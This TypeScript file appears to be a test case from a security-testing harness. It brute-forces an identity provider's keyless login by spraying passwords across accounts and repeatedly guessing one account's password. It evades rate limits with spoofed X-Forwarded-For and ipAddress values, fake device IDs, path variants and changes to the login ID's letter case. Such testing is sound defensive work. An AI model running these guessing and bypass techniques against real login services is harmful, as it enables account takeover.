/** The same past the applications: the provider's own login, for an application that needs no key. */
import type { Attack } from "../attack.ts";
import { Client } from "../client.ts";
import { anotherAddress, candidates, type Guess, type Guessed, guessPatiently } from "../guessing.ts";
import { ada, elsewhere, victim } from "../people.ts";
import { keylessApplication } from "../provider.ts";
import { hour } from "../schedule.ts";
import type { Target } from "../target.ts";
import { theftFrom } from "../theft.ts";

/** Who says to be whom, and how the request is dressed up. */
interface Attempt {
  readonly loginId: string;
  readonly password: string;
  readonly address?: string;
  readonly path?: string;
  readonly headers?: Readonly<Record<string, string>>;
  readonly body?: Readonly<Record<string, unknown>>;
}

const paths = ["//api/login", "/api//login", "/api/login/", "/api/./login", "/api/%6Cogin", "/API/LOGIN"];

export const attack: Attack = {
  title: "Guessing at the provider itself",
  story:
    "One application's sign-in needs no API key, as on a phone, so that the provider's login is open to the attacker without an application between. From one address they try one password at many accounts, then many passwords at one account, and say that they are others: in X-Forwarded-For, in ipAddress, with a device made up for each guess, by other spellings of the path and of the login id. The right one stands at place 60 of each list, and each list gets an hour.",
  source: "WSTG-ATHN-03; ASVS 6.3.1, 4.1.3; CWE-307, CWE-348; GHSA-x732-6j76-qmhm",
  promised: { kind: "nothing" },
  asDescribed: "holds",
  control: ["guesser-believed", "login-id-case-counts"],
  async run(target) {
    const owner = await victim(target, { remember: true });
    const { id: applicationId } = await keylessApplication(target);
    const theft = await theftFrom(target);
    const guess = (attempt: Attempt) => guessAtProvider(target, applicationId, attempt);

    const accounts = candidates(ada.email, 60, (index) => `customer${index}@example.com`);
    const { password } = ada;
    const ofAddress: Guess[] = disguises((attempt, loginId) => guess({ ...attempt, loginId, password }));
    await guessPatiently(target, theft, { list: accounts, ways: ofAddress, until: hour });

    const passwords = candidates(ada.password, 60, (index) => `summer holidays ${index}`);
    const ofAccount: Guess[] = [
      (secret, index) =>
        guess({ loginId: spelt(index), password: secret, address: anotherAddress(1_000 + index) }),
      ...disguises((attempt, secret) => guess({ ...attempt, loginId: ada.email, password: secret })),
    ];
    await guessPatiently(target, theft, { list: passwords, ways: ofAccount, until: hour });
    return theft.measured(owner);
  },
};

function disguises(
  guess: (attempt: Partial<Attempt>, candidate: string) => Promise<Guessed>,
): ((candidate: string, index: number) => Promise<Guessed>)[] {
  const dressings: ((index: number) => Partial<Attempt>)[] = [
    () => ({}),
    (index) => ({ headers: { "x-forwarded-for": anotherAddress(2_000 + index) } }),
    (index) => ({ headers: { forwarded: `for=${anotherAddress(3_000 + index)}` } }),
    (index) => ({ body: { ipAddress: anotherAddress(4_000 + index) } }),
    (index) => ({ body: { metaData: { data: { deviceId: String(index).padStart(43, "d") } } } }),
    ...paths.map((path) => () => ({ path })),
  ];
  return dressings.map((dressing) => (candidate, index) => guess(dressing(index), candidate));
}

/** The login id in another of the ways that mean the same: which letters are capitals says the index. */
function spelt(index: number): string {
  const isCapital = (place: number) => ((index >> place) & 1) === 1;
  return ada.email
    .split("")
    .map((letter, place) => (isCapital(place) ? letter.toUpperCase() : letter))
    .join("");
}

async function guessAtProvider(
  target: Target,
  applicationId: string,
  { loginId, password, address, path = "/api/login", headers, body }: Attempt,
): Promise<Guessed> {
  const client = new Client(target.origins.idp, address === undefined ? elsewhere : { address });
  const answer = await client.send("POST", path, {
    body: JSON.stringify({ loginId, password, applicationId, ...body }),
    headers: { "content-type": "application/json", ...headers },
  });
  if (answer.status === 200) return "right";
  // 404 is a wrong guess only where the path is one: elsewhere the router says so, with no such page.
  if (answer.status === 404) return isLogin(path) ? "wrong" : 0;
  return answer.status === 429 || answer.status === 503 ? Number(answer.headers["retry-after"] ?? 1) : 0;
}

/** Paths that the provider takes for its login's; of the others a 404 says nothing. */
function isLogin(path: string): boolean {
  return /^\/+api\/+login\/?$/.test(path);
}
